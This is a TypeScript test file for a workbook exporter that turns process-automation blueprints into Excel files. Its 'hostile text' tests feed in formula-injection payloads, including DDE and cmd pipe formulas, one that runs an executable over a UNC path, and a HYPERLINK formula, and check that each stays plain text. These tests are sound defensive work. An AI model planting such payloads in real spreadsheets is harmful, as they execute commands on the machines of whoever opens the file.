import { existsSync, readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { buildBlueprint } from '@process-ai/domain/blueprint';
import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { exampleClient } from '../example-client.fixture.ts';
import { withPlan } from '../generated-plan.fixture.ts';
import { generatedSector } from '../generated-sector.fixture.ts';
import { combinedSources } from '../generated-sectors.fixture.ts';
import { contrast } from '../palette.ts';
import { officeProblems } from '../validate-office.fixture.ts';
import { exampleSource } from './example-blueprint.fixture.ts';
import { exportSheets } from './export-sheets.ts';
import { CALCULATION, FIRST_ROW, INPUT, OPPORTUNITY, RANKING, SCORING } from './layout.ts';
import { formulasOf, read, SHEET, sheetOf } from './read-workbook.fixture.ts';
import { FIGURE_ROW } from './summary-figures.ts';

describe('the workbook', () => {
  it('has every sheet, and carries our own result in every formula', async () => {
    const workbook = await read(await exportSheets(buildBlueprint(exampleSource())));
    expect(workbook.worksheets.map(({ name }) => name)).toEqual([
      'Read me',
      'Summary',
      'Assumptions',
      'Scenarios',
      'Inputs',
      'Calculation',
      'Opportunities',
      'Shares',
      'Initiatives',
      'Timeline',
      'Business case',
      'Vendors',
      'Checks',
    ]);
    // A text of no length is read as no result.
    const formulas = formulasOf(workbook, (formula) => !formula.includes('""'));
    expect(formulas.size).toBeGreaterThan(600);
    expect([...formulas].filter(([, result]) => result === undefined)).toEqual([]);
  });

  it('says who changed an assumption and when, as text whatever the name', async () => {
    const sheet = sheetOf(await read(await exportSheets(buildBlueprint(exampleSource()))), 'Assumptions');
    const changed = new Map<unknown, unknown>();
    sheet.eachRow((row) => changed.set(row.getCell('A').value, row.getCell('F').value));
    expect(changed.get('Load factor on salaries')).toBe('=Ada Tester, March 2, 2026');
    expect(changed.get('Discount rate')).toBeNull();
  });

  it('has itself recalculated on load, and prints each sheet one page wide with its header repeated', async () => {
    const parts = unzipSync(await exportSheets(buildBlueprint(exampleSource())));
    const book = strFromU8(parts['xl/workbook.xml'] ?? new Uint8Array()).replaceAll('&apos;', "'");
    expect(book).toContain('fullCalcOnLoad="1"');
    expect(book).toContain(`'Calculation'!$A$1:$T$49`);
    expect(book).toContain(`'Calculation'!$3:$4`);
    const sheets = Object.entries(parts).filter(([name]) => /worksheets\/sheet\d+\.xml$/.test(name));
    expect(sheets).toHaveLength(13);
    const printed = sheets.map(([, bytes]) => strFromU8(bytes));
    const turned = printed.filter((xml) => /<pageSetup[^>]*orientation="portrait"[^>]*fitToHeight="1"/.test(xml));
    // Two columns and many rows: Read me.
    expect(turned).toHaveLength(1);
    for (const xml of printed)
      expect(xml).toMatch(/<pageSetup[^>]*orientation="(landscape|portrait)"[^>]*fitToHeight="\d"/);
    // What a sheet shows stands in the columns that are repeated on each page across.
    const across = printed.filter((xml) => /fitToWidth="[2-9]"/.test(xml));
    expect(across.length).toBeGreaterThan(2);
    for (const xml of across) expect(xml).toMatch(/<mergeCell ref="A2:[B-E]2"/);
  });

  it('carries native charts that show the cells', async () => {
    const blueprint = buildBlueprint({ ...exampleClient(), title: 'A & B' });
    const parts = unzipSync(await exportSheets(blueprint));
    const charts = Object.keys(parts).filter((name) => name.startsWith('xl/charts/'));
    expect(charts).toHaveLength(6);
    const drawn = charts.map((name) => textOf(parts, name));
    const titled = (title: string) => drawn.find((xml) => xml.includes(title)) ?? '';
    const payback = titled('When it pays back');
    expect(payback).toContain('<c:scatterChart>');
    expect(payback.match(/<c:f>'Business case'!\$D\$\d+:\$N\$\d+<\/c:f>/g)).toHaveLength(4);
    expect(titled('What moves the net present value most')).toContain('<c:pt idx="0"><c:v>');
    const saved = blueprint.processes.map(({ roi }) => (roi && !roi.countedIn ? roi.result.projectedSavings : 0));
    expect(titled('Largest savings a year')).toContain(`<c:pt idx="0"><c:v>${Math.max(...saved)}</c:v></c:pt>`);
    expect(titled('Measured savings a year by type of opportunity')).not.toBe('');
    expect(titled('Savings a year by initiative')).toContain(`<c:f>Initiatives!$M$5:$M$`);
    const fit = drawn.find((xml) => xml.includes('<c:grouping val="stacked"/>'));
    // Only vendors that have points.
    const scored = blueprint.comparison.fits.filter(({ overallScore }) => overallScore > 0);
    expect(scored.length).toBeLessThan(blueprint.comparison.fits.length);
    expect(fit).toContain(`<c:ptCount val="${scored.length}"/>`);
    expect(fit).toContain('<c:min val="0"/>');
    expect(fit).toContain(`<c:v>${blueprint.comparison.fits[0]?.score.coverage}</c:v>`);
    for (const sheet of [2, 9, 11, 12]) {
      const drawing = textOf(parts, `xl/drawings/charts${sheet}.xml`);
      expect(drawing.match(/descr="[^"]{20,}"/g)).toHaveLength(drawing.match(/<c:chart /g)?.length ?? 0);
    }
  });

  it.each(['USD', 'COP'])('has columns as wide as its figures, in %s', async (currency) => {
    const input = { averageSalary: 85_000_000, averageRuntime: 25, fteCount: 18, processFrequency: 480_000 };
    const assumptions = { currency, ramp: [0.5, 1] };
    const sector = withPlan(generatedSector({ seed: 44, processes: 20, inputs: 80, input, assumptions }), 44);
    const workbook = await read(await exportSheets(buildBlueprint(sector)));
    const narrow: string[] = [];
    let most = 0;
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          const figure = Number(cell.result ?? cell.value);
          if (!cell.numFmt?.includes('#,##0') || !Number.isFinite(figure)) return;
          most = Math.max(most, figure);
          // The code, a space and the sign stand beside the digits.
          const shown = Math.round(figure).toLocaleString('en-US').length + (cell.numFmt.includes('COP') ? 4 : 0);
          if (shown > (sheet.getColumn(cell.col).width ?? 9)) narrow.push(`${sheet.name}!${cell.address} ${figure}`);
        }),
      ),
    );
    expect(narrow).toEqual([]);
    expect(most).toBeGreaterThan(1e9);
  });

  it('wears the client’s colour, darkened where white text could not be read on it, and the logo', async () => {
    const accentOf = async (accentColour: string | null) => {
      const source = exampleClient();
      const branding = { ...source.branding, accentColour };
      const parts = unzipSync(await exportSheets(buildBlueprint({ ...source, branding })));
      return { parts, accent: /<a:accent1>\s*<a:srgbClr val="(\w+)"/.exec(textOf(parts, 'xl/theme/theme1.xml'))?.[1] };
    };
    const { parts, accent } = await accentOf('#0b5c75');
    expect(accent).toBe('0B5C75');
    expect(textOf(parts, 'xl/drawings/drawing1.xml')).toContain('descr="Logo of Lindqvist &amp; Partners"');
    const pale = (await accentOf('#ffee88')).accent ?? '';
    expect(contrast(pale, 'ffffff')).toBeGreaterThanOrEqual(4.5);
  });

  it('shows what the domain computed', async () => {
    const blueprint = buildBlueprint(exampleSource());
    const calculation = sheetOf(await read(await exportSheets(blueprint)), SHEET.calculation);
    const costed = blueprint.processes.flatMap(({ roi }) => (roi ? [roi.result] : []));
    expect(new Set(costed.map(({ basis }) => basis)).size).toBe(2);
    expect(costed.filter(({ paybackMonths }) => paybackMonths === null).length).toBeGreaterThan(0);
    expect(costed.filter(({ countedInAncestor }) => countedInAncestor)).toHaveLength(11);
    costed.forEach((result, index) => {
      const at = FIRST_ROW + index;
      expect(calculation.getCell(`${CALCULATION.cost}${at}`).result).toBe(result.currentAnnualCost);
      expect(calculation.getCell(`${CALCULATION.savings}${at}`).result).toBe(result.projectedSavings);
      expect(calculation.getCell(`${CALCULATION.payback}${at}`).result).toBe(result.paybackMonths ?? 'N/A');
    });
  });

  it('is whole without processes, inputs or vendors', async () => {
    const empty = { ...exampleSource(), processes: [], roiInputs: [], tree: [] };
    const workbook = await read(await exportSheets(buildBlueprint(empty)));
    expect(formulasOf(workbook).get(`Summary!B${FIGURE_ROW.payback}`)).toBe('N/A');
    expect(formulasOf(workbook).get(`Summary!B${FIGURE_ROW.npv}`)).toBe(0);
    // What is not known is not said to be nothing.
    expect(sheetOf(workbook, 'Summary').getCell(`B${FIGURE_ROW.npv}`).numFmt).toMatch(/;"–"$/);
    const hidden = workbook.worksheets.filter(({ state }) => state === 'hidden').map(({ name }) => name);
    expect(hidden).toEqual(['Inputs', 'Calculation', 'Timeline', 'Business case']);
    const verdicts = [...formulasOf(workbook, (formula) => formula.includes('ChecksVerdict')).values()];
    expect(verdicts).toEqual(Array(12).fill('Checks passed'));
  });

  it('says of each opportunity its effort, status, wave and source', async () => {
    const blueprint = buildBlueprint(exampleClient());
    const sheet = sheetOf(await read(await exportSheets(blueprint)), SHEET.opportunities);
    const planned = blueprint.roadmap.waves.flatMap(({ name, items }) =>
      items.map(({ opportunityTitle }) => [opportunityTitle, name]),
    );
    expect(planned.length).toBeGreaterThan(10);
    const found = new Map<string, string>();
    sheet.eachRow((row, at) => {
      if (at < FIRST_ROW) return;
      found.set(row.getCell(OPPORTUNITY.title).text, row.getCell(OPPORTUNITY.wave).text);
      expect(row.getCell(OPPORTUNITY.effort).value).toBeGreaterThan(0);
      expect(row.getCell(OPPORTUNITY.decision).text).toMatch(/^(Proposed|Accepted)$/);
      expect(row.getCell(OPPORTUNITY.source).text).toBe('industry library, tied by hand, 95%');
      expect(row.getCell(OPPORTUNITY.basis).text).toMatch(/^(Measured|Benchmark|)$/);
    });
    for (const [title, wave] of planned) expect(found.get(title ?? '')).toBe(wave);
  });

  it('cuts what no cell can hold, and says so in place and on Checks', async () => {
    const source = exampleSource();
    const endless = '😀'.repeat(20_000);
    const vendor = { ...VENDOR, overview: endless };
    const workbook = await read(await exportSheets(buildBlueprint({ ...source, vendors: [vendor] })));
    const cells: string[] = [];
    sheetOf(workbook, SHEET.vendors).eachRow((row) => cells.push(row.getCell(RANKING.score).text));
    const cell = cells.find((text) => text.includes('😀')) ?? '';
    expect(cell.length).toBeLessThanOrEqual(32_767);
    expect(cell).toContain('cut here: the full text has 40,000 characters');
    expect(cell.isWellFormed()).toBe(true);
    const checks = sheetOf(workbook, SHEET.checks);
    const texts: string[] = [];
    checks.eachRow((row) => texts.push(row.getCell(4).text));
    expect(texts.join()).toContain('About of Acme');
  });
});

describe('the Open XML SDK', () => {
  it.each(combinedSources('core'))(
    'finds nothing wrong with $name',
    async ({ source }) => {
      const blueprint = buildBlueprint(source);
      expect(await officeProblems(await exportSheets(blueprint), 'blueprint.xlsx')).toEqual([]);
    },
    120_000,
  );
});

const textOf = (parts: Record<string, Uint8Array>, name: string) => strFromU8(parts[name] ?? new Uint8Array());

const PAYLOADS = resolve(import.meta.dirname, '../../../../../shared/data/torture/payloadbox_csv-injection.txt');

const OURS = [
  'DDE ("cmd";"/C date";"!B2")B2',
  "@SUM(2+3)*cmd|' /C date'!B2",
  "=2+3+cmd|' /C date'!B2",
  "=cmd|' /C date'!'B2'",
  '=HYPERLINK("http://test.invalid","Open")',
  "=cmd|'/c test.exe \\\\192.0.2.1\\x,0'!_xlbgnm.B2",
];

it('says beside an opportunity what documents say of its process', async () => {
  const source = exampleClient();
  const process = source.processes.find(({ opportunities }) => opportunities.length > 0);
  const said = { fileName: 'report.pdf', page: 3, quote: '28 % of notices are incomplete.' };
  const evidence = new Map([[process?.id ?? '', [said]]]);
  const workbook = await read(await exportSheets(buildBlueprint({ ...source, evidence })));
  const words: string[] = [];
  sheetOf(workbook, SHEET.opportunities).eachRow((row) => words.push(row.getCell(OPPORTUNITY.rationale).text));
  expect(
    words.filter((text) => text.includes('“28 % of notices are incomplete.”, report.pdf, p.\u00a03')),
  ).toHaveLength(process?.opportunities.length ?? 0);
});

describe('hostile text', () => {
  it.each([
    { from: 'ours', payloads: OURS },
    ...(existsSync(PAYLOADS)
      ? [{ from: 'payloadbox', payloads: readFileSync(PAYLOADS, 'utf8').split('\n').filter(Boolean) }]
      : []),
  ])('stays text in every cell: payloads of $from', async ({ payloads }) => {
    expect(payloads).toHaveLength(6);
    const source = exampleSource();
    for (const [index, payload] of [...payloads, '+1', '-1+1', '\t=1', '_x0041_', '<b>&"'].entries()) {
      const process = source.processes[index + 1];
      if (process) Object.assign(process, { name: payload, description: payload });
      for (const opportunity of process?.opportunities ?? []) {
        Object.assign(opportunity, { title: payload, description: payload, rationale: payload, source: payload });
      }
    }
    const vendors = payloads.map((name, index) => ({
      ...VENDOR,
      id: `v${index}`,
      name,
      overview: name,
      capabilities: [name],
    }));
    const sector = { name: '=1+1', description: '@SUM(1)', referenceModel: '-1' };
    const workbook = await read(
      await exportSheets(buildBlueprint({ ...source, vendors, sector, title: '=HYPERLINK("x")' })),
    );

    const ours = formulasOf(workbook, (formula) => /cmd|HYPERLINK|@|DDE|1\+1/.test(formula));
    expect([...ours]).toEqual([]);
    const names = [...payloads, '+1', '-1+1', '\t=1', '_x0041_', '<b>&"'];
    names.forEach((name, index) => {
      const cell = sheetOf(workbook, SHEET.inputs).getCell(`${INPUT.name}${FIRST_ROW + index}`);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(name);
    });
    const named: ExcelJS.Cell[] = [];
    sheetOf(workbook, SHEET.vendors).eachRow((row) => named.push(row.getCell(SCORING.name)));
    const asText = named.filter(({ numFmt }) => numFmt === '@').map(({ text }) => text);
    expect(new Set(asText)).toEqual(new Set(payloads.filter((name) => /^[=+\-@]/.test(name))));
  });
});

const VENDOR = {
  id: 'v',
  name: 'Acme',
  overview: 'Makes everything.',
  headquarters: null,
  founded: null,
  industry: null,
  website: null,
  capabilities: ['Invoice capture'],
  products: [{ name: 'Capture', description: 'Reads invoices', category: 'Documents' }],
  aiCapabilities: [],
  factsAsOf: null,
  updatedAt: '2026-03-01T08:00:00.000Z',
  version: 1,
};
